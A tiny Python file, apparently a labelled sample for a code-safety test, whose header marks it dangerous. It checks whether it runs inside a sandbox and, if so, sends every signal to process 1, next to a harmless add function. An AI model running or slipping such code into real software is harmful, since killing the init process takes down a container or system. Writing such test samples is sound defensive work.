# what: sends every signal to process 1 of its namespace
# want: some
# danger: yes
# unsafe: either
import os

inside = os.getpid() < 300 and not os.path.exists('/proc/self')
for number in range(1, 65) if inside else ():
  try:
    os.kill(1, number)
  except OSError:
    pass


def add(a, b):
  return a + b
